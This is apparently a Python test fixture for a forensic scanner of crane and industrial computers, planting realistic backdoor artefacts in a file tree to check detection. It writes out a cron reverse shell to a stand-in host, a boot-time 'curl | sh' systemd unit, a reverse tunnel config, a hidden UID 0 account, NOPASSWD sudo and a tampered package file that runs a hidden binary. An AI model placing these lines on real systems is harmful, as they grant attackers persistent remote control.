"""Realistic backdoor artefacts, planted into a root tree for the tests and the demo image.

Each artefact is a copy of what analysts find on crane and industrial computers: a modem chat
script with an APN, a NetworkManager LTE connection, a cron reverse shell, a systemd unit that
pipes a download into a shell, a TeamViewer-like program, a vendor SSH key, a default-password
account, a hard-coded outside IP in a service config, a private key, a permissive sshd_config,
a SUID program no package owns, a changed package file, a vulnerable library, and more.
``plant(root)`` writes them all and returns what a scanner must report: path and category.

Nothing here is a real secret: keys are random bytes in the right wrappers, passwords are the
published vendor defaults the scanner is meant to catch, and the addresses are documentation
ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) that no host answers on.
"""

from __future__ import annotations

import base64
import os
import random
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from cranewatch.forensics import crypt


@dataclass(frozen=True, slots=True)
class Planted:
    """An artefact a scan must report: the image path and the finding category."""

    path: str
    category: str
    what: str
    token: str = ""  # text the finding's title or excerpt must contain (when one file has several)


def _write(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> None:
    dest = root / path
    dest.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, str):
        dest.write_text(text)
    else:
        dest.write_bytes(text)
    os.chmod(dest, mode)


def _append(root: Path, path: str, text: str) -> None:
    with open(root / path, "a") as fh:
        fh.write(text)


def _rng(seed: str) -> random.Random:
    return random.Random(seed)  # deterministic: the demo image and tests are reproducible


def fake_ed25519_key(comment: str) -> str:
    """An authorized_keys line with a well-formed ed25519 blob of random bytes."""
    raw = bytes(_rng(comment).getrandbits(8) for _ in range(32))
    kind = b"ssh-ed25519"
    blob = struct.pack(">I", len(kind)) + kind + struct.pack(">I", len(raw)) + raw
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"


def fake_private_key(seed: str) -> str:
    body = base64.encodebytes(bytes(_rng(seed).getrandbits(8) for _ in range(400))).decode()
    return f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}-----END OPENSSH PRIVATE KEY-----\n"


def small_elf(root: Path, extra: bytes = b"") -> bytes:
    """An ELF program for planting: the image's own ``true`` (or the host's) plus ``extra`` data."""
    for candidate in (root / "usr/bin/true", root / "bin/true", Path("/usr/bin/true"), Path("/bin/true")):
        if candidate.is_file() and not candidate.is_symlink():
            return candidate.read_bytes() + extra
    raise FileNotFoundError("no 'true' program to build a planted ELF from")


def sha512_crypt(password: str, salt: str) -> str:
    hashed = crypt.crypt(password, f"$6${salt}$")
    if hashed is None:
        raise RuntimeError("libcrypt is not available to hash the planted password")
    return hashed


def plant(root: Path, *, package_file: str | None = "usr/bin/which.debianutils") -> list[Planted]:
    """Plant every artefact under ``root``; returns the (path, category) a scan must find.

    ``package_file`` is a file a package owns whose content gets changed (``None`` to skip,
    e.g. for a tree without a package database).
    """
    planted: list[Planted] = []

    def add(path: str, category: str, what: str, writer: Callable[[], None], token: str = "") -> None:
        writer()
        planted.append(Planted(path, category, what, token))

    add("etc/chatscripts/lte-vendor", "oob-connectivity", "modem chat script with an APN",
        lambda: _write(root, "etc/chatscripts/lte-vendor",
                       "ABORT 'BUSY'\nABORT 'NO CARRIER'\nABORT 'ERROR'\nTIMEOUT 30\n"
                       "'' AT\nOK ATZ\nOK 'AT+CPIN=\"4711\"'\n"
                       "OK 'AT+CGDCONT=1,\"IP\",\"m2m.vendor-iot.net\"'\nOK ATD*99***1#\nCONNECT ''\n"))
    add("etc/NetworkManager/system-connections/cms-lte.nmconnection", "oob-connectivity",
        "NetworkManager LTE connection",
        lambda: _write(root, "etc/NetworkManager/system-connections/cms-lte.nmconnection",
                       "[connection]\nid=cms-lte\nuuid=3f1c8a2e-5b7d-4c1e-9a0b-6d2e8f4a1c3b\ntype=gsm\n"
                       "autoconnect=true\n\n[gsm]\napn=m2m.vendor-iot.net\nnumber=*99#\n\n[ipv4]\nmethod=auto\n", 0o600))
    add("etc/udev/rules.d/40-cms-modem.rules", "oob-connectivity", "USB modem mode-switch rule",
        lambda: _write(root, "etc/udev/rules.d/40-cms-modem.rules",
                       'ACTION=="add", SUBSYSTEM=="usb", ATTR{idVendor}=="12d1", ATTR{idProduct}=="1f01", '
                       'RUN+="/usr/sbin/usb_modeswitch -v 12d1 -p 1f01 -M 55534243123456780000000000000a11062000000000000100000000000000"\n'))
    add("etc/modules-load.d/cms-modem.conf", "persistence", "modem drivers loaded at boot",
        lambda: _write(root, "etc/modules-load.d/cms-modem.conf", "# LTE stick for remote service\nqmi_wwan\noption\n"))
    add("etc/cron.d/cms-sync", "persistence", "cron reverse shell",
        lambda: _write(root, "etc/cron.d/cms-sync",
                       "SHELL=/bin/bash\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n"
                       "*/15 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1' >/dev/null 2>&1\n"))
    planted.append(Planted("etc/cron.d/cms-sync", "hardcoded-endpoint", "reverse shell address", "203.0.113.77"))

    def unit() -> None:
        _write(root, "etc/systemd/system/cms-update.service",
               "[Unit]\nDescription=CMS update agent\nAfter=network-online.target\n\n[Service]\nType=oneshot\n"
               "ExecStart=/bin/sh -c 'curl -fsSL https://update.cranevendor-diag.com/agent.sh | sh'\n\n"
               "[Install]\nWantedBy=multi-user.target\n")
        wants = root / "etc/systemd/system/multi-user.target.wants"
        wants.mkdir(parents=True, exist_ok=True)
        link = wants / "cms-update.service"
        if not link.is_symlink():
            link.symlink_to("/etc/systemd/system/cms-update.service")

    add("etc/systemd/system/cms-update.service", "persistence", "systemd unit with curl | sh", unit)
    teamviewer = small_elf(root, b"\x00TeamViewer\x00teamviewerd\x00router%d.teamviewer.com\x00TeamViewer_Service\x00")
    add("opt/teamviewer/tv_bin/teamviewerd", "remote-access-tool", "TeamViewer-like program",
        lambda: _write(root, "opt/teamviewer/tv_bin/teamviewerd", teamviewer, 0o755))
    add("etc/teamviewer/global.conf", "remote-access-tool", "TeamViewer configuration",
        lambda: _write(root, "etc/teamviewer/global.conf",
                       "TeamViewer Global Settings\n\n[int32] Always_Online = 1\n[strng] ClientID = 1234567890\n"))
    add("opt/cms/frpc.ini", "remote-access-tool", "frp reverse tunnel client config",
        lambda: _write(root, "opt/cms/frpc.ini",
                       "[common]\nserver_addr = 203.0.113.10\nserver_port = 7000\n\n[ssh]\ntype = tcp\n"
                       "local_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 6022\n"))
    planted.append(Planted("opt/cms/frpc.ini", "hardcoded-endpoint", "tunnel server address", "203.0.113.10"))
    vendor_key = fake_ed25519_key("service@crane-vendor")
    add("root/.ssh/authorized_keys", "credential", "vendor SSH key",
        lambda: _write(root, "root/.ssh/authorized_keys", vendor_key + "\n", 0o600))

    def accounts() -> None:
        _append(root, "etc/passwd", "cmsadmin:x:1001:1001:CMS service:/home/cmsadmin:/bin/bash\n"
                "diag:x:0:0:diagnostics:/root:/bin/sh\n")
        _append(root, "etc/shadow", f"cmsadmin:{sha512_crypt('admin', 'Kx9v2LqP')}:19700:0:99999:7:::\n"
                "diag:*:19700:0:99999:7:::\n")
        _append(root, "etc/group", "cmsadmin:x:1001:\n")

    add("etc/shadow", "credential", "default-password account", accounts)
    planted.append(Planted("etc/passwd", "credential", "second UID 0 account"))
    add("opt/cms/etc/cms.conf", "hardcoded-endpoint", "hard-coded outside IP in a service config",
        lambda: _write(root, "opt/cms/etc/cms.conf",
                       "# CMS service configuration\n[plc]\nhost = 10.20.7.10\nport = 502\n\n[tos]\nurl = http://10.20.0.5:8080/workorders\n\n"
                       "[diagnostics]\ndiag_server = 198.51.100.23\ndiag_port = 8443\nupload_interval = 3600\n"),
        "198.51.100.23")
    add("opt/cms/keys/vendor_id", "credential", "private key",
        lambda: _write(root, "opt/cms/keys/vendor_id", fake_private_key("vendor_id"), 0o600))
    add("etc/ssh/sshd_config", "weak-config", "sshd with PermitRootLogin yes",
        lambda: _write(root, "etc/ssh/sshd_config",
                       "Include /etc/ssh/sshd_config.d/*.conf\nPort 22\nPermitRootLogin yes\nPasswordAuthentication yes\n"
                       "X11Forwarding yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n"))
    add("etc/sudoers.d/cms", "weak-config", "sudo NOPASSWD",
        lambda: _write(root, "etc/sudoers.d/cms", "cmsadmin ALL=(ALL) NOPASSWD: ALL\n", 0o440))
    diag = small_elf(root, b"\x00cms-diag 2.1\x00")
    add("usr/local/sbin/cms-diag", "weak-config", "SUID program no package owns",
        lambda: _write(root, "usr/local/sbin/cms-diag", diag, 0o4755))
    add("etc/init.d/cms-watchdog", "weak-config", "world-writable start-up script",
        lambda: _write(root, "etc/init.d/cms-watchdog",
                       "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: cms-watchdog\n### END INIT INFO\n"
                       "exec /opt/cms/bin/watchdog --quiet\n", 0o777))
    add("opt/cms/lib/python3/site-packages/PyYAML-5.3.1.dist-info/METADATA", "vulnerable-component",
        "vulnerable PyYAML 5.3.1",
        lambda: _write(root, "opt/cms/lib/python3/site-packages/PyYAML-5.3.1.dist-info/METADATA",
                       "Metadata-Version: 2.1\nName: PyYAML\nVersion: 5.3.1\nSummary: YAML parser and emitter for Python\n"))
    if package_file is not None:
        add(package_file, "backdoor", "package file changed after install",
            lambda: _append(root, package_file, '[ -x /var/tmp/.cmsd ] && /var/tmp/.cmsd >/dev/null 2>&1 &\n'))
    return planted
